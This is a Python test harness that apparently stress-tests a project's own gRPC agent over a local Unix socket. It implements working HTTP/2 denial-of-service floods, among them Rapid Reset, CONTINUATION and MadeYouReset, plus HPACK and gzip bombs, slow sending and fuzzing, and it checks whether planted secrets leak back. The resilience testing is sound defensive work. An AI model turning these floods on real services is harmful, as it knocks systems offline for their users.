"""The attacker's program: `python -m tests.attacks.attacker NAME UID SOCKET SECONDS MANY`, one flood as that user.

Prints a line of JSON when its time is over and still holds its connections until its stdin ends: what it did, what came
back, and how many planted secrets are in that (`got`). Each flood is bounded in time and in what it holds.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import os
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from itertools import chain, count, repeat

from tests.attacks.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GET,
    HEADERS,
    OPENING,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    WATCH,
    WINDOW_UPDATE,
    Heard,
    block,
    frame,
    integer,
    literal,
    message,
    name_message,
    request,
    settings,
)

MARK = b"planted-"
"""How every planted secret begins."""
NAME = "own"
Chunks = Iterator[bytes]


@dataclass(slots=True)
class Flood:
    """`many` connections that each send what `chunks` makes for it, and come back when they are closed."""

    chunks: Callable[[], Chunks]
    many: int = 4
    reads: bool = True
    returns: bool = True
    pace_s: float = 0.0
    """Between two chunks of one connection."""


@dataclass(slots=True)
class Line:
    """One connection of a flood."""

    sock: socket.socket
    left: Chunks
    held: bytes = b""
    due: float = 0.0
    heard: Heard = field(default_factory=Heard)


@dataclass(slots=True)
class Tally:
    """What a flood did and got."""

    connections: int = 0
    refused: int = 0
    closed: int = 0
    sent: int = 0
    received: int = 0
    got: int = 0
    frames: dict[int, int] = field(default_factory=dict)

    def add(self, heard: Heard) -> None:
        self.got += heard.bodies.count(MARK)
        for kind, number in heard.frames.items():
            self.frames[kind] = self.frames.get(kind, 0) + number
        heard.frames.clear()
        heard.bodies.clear()
        heard.ended.clear()


class Running:
    """A flood under way; everything on one thread."""

    def __init__(self, flood: Flood, path: str) -> None:
        self.tally = Tally()
        self._flood = flood
        self._path = path
        self._lines: dict[int, Line] = {}
        self._poll = select.epoll()

    def run(self, seconds: float) -> None:
        """Goes on for so long."""
        over = time.monotonic() + seconds
        missing = self._flood.many
        while (now := time.monotonic()) < over:
            missing -= self._open(min(missing, 64))
            ready = self._poll.poll(0.01, 256)
            for fd, events in ready:
                line = self._lines.get(fd)
                if line is not None and not self._serve(line, events, now):
                    self._drop(line)
                    missing += self._flood.returns
            self._wake(now)

    def _open(self, many: int) -> int:
        for done in range(many):
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
            if sock.connect_ex(self._path):  # the backlog is full: later
                sock.close()
                self.tally.refused += 1
                return done
            line = Line(sock, self._flood.chunks())
            self._lines[sock.fileno()] = line
            self._poll.register(sock, self._wanted(line))
            self.tally.connections += 1
        return many

    def _wanted(self, line: Line, *, writes: bool = True) -> int:
        return (select.EPOLLIN if self._flood.reads else 0) | (select.EPOLLOUT if writes else 0)

    def _wake(self, now: float) -> None:
        if self._flood.pace_s:
            for line in self._lines.values():
                if line.due and line.due <= now:
                    line.due = 0.0
                    self._poll.modify(line.sock, self._wanted(line))

    def _serve(self, line: Line, events: int, now: float) -> bool:
        """Whether the connection is still of use."""
        try:
            if events & select.EPOLLOUT:
                self._send(line, now)
            if events & select.EPOLLIN:
                data = line.sock.recv(65536)
                self.tally.received += len(data)
                line.heard.take(data)
                self.tally.add(line.heard)
                return bool(data)
        except BlockingIOError:
            pass
        except OSError:
            return False
        return not events & select.EPOLLHUP or bool(events & select.EPOLLIN)

    def _send(self, line: Line, now: float) -> None:
        for _ in range(8):  # then somebody else's turn
            line.held = line.held or next(line.left, b"")
            if not line.held:
                self._poll.modify(line.sock, self._wanted(line, writes=False))
                return
            done = line.sock.send(line.held)
            self.tally.sent += done
            line.held = line.held[done:]
            if self._flood.pace_s:
                line.due = now + self._flood.pace_s
                self._poll.modify(line.sock, self._wanted(line, writes=False))
                return

    def _drop(self, line: Line) -> None:
        self.tally.closed += 1
        self._poll.unregister(line.sock)
        del self._lines[line.sock.fileno()]
        line.sock.close()

    def leave(self) -> None:
        """Reads what is still there, then closes all."""
        for line in self._lines.values():
            with contextlib.suppress(OSError):
                while self._flood.reads and (data := line.sock.recv(65536)):
                    line.heard.take(data)
            self.tally.add(line.heard)


# -- the floods -------------------------------------------------------------------------------------------------------


def _streams() -> Iterator[int]:
    return count(1, 2)


def _unacknowledged(one: bytes, *, per_chunk: int = 200) -> Chunks:
    return chain([OPENING], repeat(one * per_chunk))


def huge_headers() -> Chunks:
    """A header list of 2 MB in one request, in frames of 16 KiB."""
    coded = block(GET, *((f"x-{number}", "v" * 8000) for number in range(250)))
    pieces = [coded[at : at + 16384] for at in range(0, len(coded), 16384)]
    for stream in _streams():
        first = OPENING if stream == 1 else b""
        yield first + frame(HEADERS, 0, stream, pieces[0])
        for piece in pieces[1:-1]:
            yield frame(CONTINUATION, 0, stream, piece)
        yield frame(CONTINUATION, END_HEADERS, stream, pieces[-1])


def hpack_bomb() -> Chunks:
    """One field of 3 KB in the dynamic table, named 12,000 times a request by one byte each: 36 MB out of 12 KB."""
    entry = literal("x-bomb", "b" * 3000, indexed=True)
    for stream in _streams():
        coded = block(GET) + (entry if stream == 1 else b"") + integer(62, 7, 0x80) * 12_000
        yield (OPENING if stream == 1 else b"") + frame(HEADERS, END_HEADERS | END_STREAM, stream, coded)


def continuations() -> Chunks:
    """A header block that never ends, in empty frames (CVE-2024-27316 and its kin)."""
    return chain(
        [OPENING, frame(HEADERS, 0, 1, block(GET))], repeat(frame(CONTINUATION, 0, 1) * 500)
    )  # never END_HEADERS


def continuations_with_fields() -> Chunks:
    """The same with a field in each frame."""
    more = b"".join(frame(CONTINUATION, 0, 1, literal(f"x-{number}", "v" * 50)) for number in range(100))
    return chain([OPENING, frame(HEADERS, 0, 1, block(GET))], repeat(more))


def rapid_reset() -> Chunks:
    """Requests taken back at once (CVE-2023-44487)."""
    cancel = struct.pack("!I", 8)
    yield OPENING
    for stream in _streams():
        yield request(stream, GET, NAME) + frame(RST_STREAM, 0, stream, cancel)


def made_you_reset() -> Chunks:
    """Requests that the server has to reset itself: a window update of nothing (CVE-2025-8671)."""
    yield OPENING
    for stream in _streams():
        yield request(stream, GET, NAME) + frame(WINDOW_UPDATE, 0, stream, bytes(4))


def zero_window() -> Chunks:
    """Requests whose answers may never be sent."""
    return chain([PREFACE + settings(s4=0)], (request(stream, GET, NAME) for stream in _streams()))


def settings_flood() -> Chunks:
    """SETTINGS, each of which asks for an acknowledgement that is never read."""
    return _unacknowledged(settings(s4=65535))


def ping_flood() -> Chunks:
    """The same with PING."""
    return _unacknowledged(frame(PING, 0, 0, b"12345678"))


def priority_flood() -> Chunks:
    """A tree of priorities that is rearranged all the time."""
    yield OPENING
    for stream in _streams():
        parent = struct.pack("!IB", max(0, stream - 2) | 1 << 31, 255)
        yield b"".join(frame(PRIORITY, 0, stream + 2 * number, parent) for number in range(100))


def empty_data() -> Chunks:
    """A request whose body goes on for ever in frames without a byte."""
    return chain([OPENING + frame(HEADERS, END_HEADERS, 1, block(GET))], repeat(frame(DATA, 0, 1) * 500))


def window_updates() -> Chunks:
    """Windows opened by one byte, again and again."""
    return _unacknowledged(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))


def message_bomb() -> Chunks:
    """A message of 64 MB that is 64 KB on the wire."""
    packed = gzip.compress(bytes(64 << 20))
    pieces = [packed[at : at + 16384] for at in range(0, len(packed), 16384)]
    head = struct.pack("!?I", True, len(packed))
    for stream in _streams():
        yield (
            (OPENING if stream == 1 else b"")
            + frame(HEADERS, END_HEADERS, stream, block(GET, ("grpc-encoding", "gzip")))
            + frame(DATA, 0, stream, head)
            + b"".join(frame(DATA, 0, stream, piece) for piece in pieces[:-1])
        )
        yield frame(DATA, END_STREAM, stream, pieces[-1])


def giant_message() -> Chunks:
    """A message that claims 4 GB and is sent as far as one is let."""
    head = frame(HEADERS, END_HEADERS, 1, block(GET)) + frame(DATA, 0, 1, struct.pack("!?I", False, (1 << 32) - 1))
    return chain([OPENING + head], repeat(frame(DATA, 0, 1, bytes(16384))))


def half_a_frame() -> Chunks:
    """Most of a request, and then nothing."""
    return iter([OPENING + request(1, GET, NAME)[:-20]])


def garbage() -> Chunks:
    """Bytes of any kind after a good opening."""
    draw = random.Random(44487)
    return chain([OPENING], (draw.randbytes(4096) for _ in count()))


def garbage_frames() -> Chunks:
    """Frames of every kind, known or not, with any flags, streams and content."""
    draw = random.Random(9113)
    yield OPENING
    while True:
        yield b"".join(
            frame(draw.randrange(12), draw.randrange(256), draw.randrange(16), draw.randbytes(draw.randrange(64)))
            for _ in range(50)
        )


def whole_openings() -> Chunks:
    """Connections that look like callers and ask for nothing."""
    return iter([OPENING])


def slowly() -> Chunks:
    """A request of one byte at a time."""
    return (bytes((byte,)) for byte in OPENING + request(1, GET, NAME))


def never_reading() -> Chunks:
    """Requests, and no answer is ever read."""
    return chain([PREFACE + settings(s4=(1 << 31) - 1)], (request(stream, GET, NAME) for stream in _streams()))


def requests() -> Chunks:
    """Requests as any client sends them, as fast as the agent takes them."""
    return chain([OPENING], (request(stream, GET, NAME) for stream in _streams()))


def watchers() -> Chunks:
    """A hundred watches on each connection, none of them ever closed."""
    body = message(name_message(NAME))
    yield OPENING
    for stream in range(1, 200, 2):
        yield frame(HEADERS, END_HEADERS, stream, block(WATCH)) + frame(DATA, END_STREAM, stream, body)


def deaf_watcher() -> Chunks:
    """One watch whose news are never read, with all the window in the world."""
    wide = frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", (1 << 31) - 1 - 65535))
    head = frame(HEADERS, END_HEADERS, 1, block(WATCH)) + frame(DATA, END_STREAM, 1, message(name_message("token")))
    return iter([PREFACE + settings(s4=(1 << 31) - 1) + wide + head])


FLOODS: dict[str, Callable[[int], Flood]] = {
    "huge_headers": lambda _: Flood(huge_headers),
    "hpack_bomb": lambda _: Flood(hpack_bomb),
    "continuations": lambda _: Flood(continuations),
    "continuations_with_fields": lambda _: Flood(continuations_with_fields),
    "rapid_reset": lambda _: Flood(rapid_reset),
    "made_you_reset": lambda _: Flood(made_you_reset),
    "zero_window": lambda _: Flood(zero_window),
    "settings_flood": lambda _: Flood(settings_flood, reads=False),
    "ping_flood": lambda _: Flood(ping_flood, reads=False),
    "priority_flood": lambda _: Flood(priority_flood),
    "empty_data": lambda _: Flood(empty_data),
    "window_updates": lambda _: Flood(window_updates),
    "message_bomb": lambda _: Flood(message_bomb, many=2),
    "giant_message": lambda _: Flood(giant_message),
    "half_a_frame": lambda many: Flood(half_a_frame, many=many // 10, returns=False),
    "garbage": lambda _: Flood(garbage),
    "garbage_frames": lambda _: Flood(garbage_frames),
    "whole_openings": lambda many: Flood(whole_openings, many=many),
    "slowly": lambda many: Flood(slowly, many=many // 20, pace_s=0.01, returns=False),
    "never_reading": lambda _: Flood(never_reading, reads=False),
    "wide": lambda many: Flood(requests, many=many // 10),
    "watchers": lambda many: Flood(watchers, many=many // 200, returns=False),
    "deaf_watcher": lambda _: Flood(deaf_watcher, many=5, reads=False, returns=False),
}


def main() -> None:
    """Runs one flood."""
    name, uid, path, seconds, many = sys.argv[1:]
    os.setgroups([])
    os.setresgid(int(uid), int(uid), int(uid))
    os.setresuid(int(uid), int(uid), int(uid))
    running = Running(FLOODS[name](int(many)), path)
    print("begun", flush=True)
    running.run(float(seconds))
    running.leave()
    tally = running.tally
    print(json.dumps({each: getattr(tally, each) for each in Tally.__slots__}), flush=True)
    sys.stdin.readline()


if __name__ == "__main__":
    main()
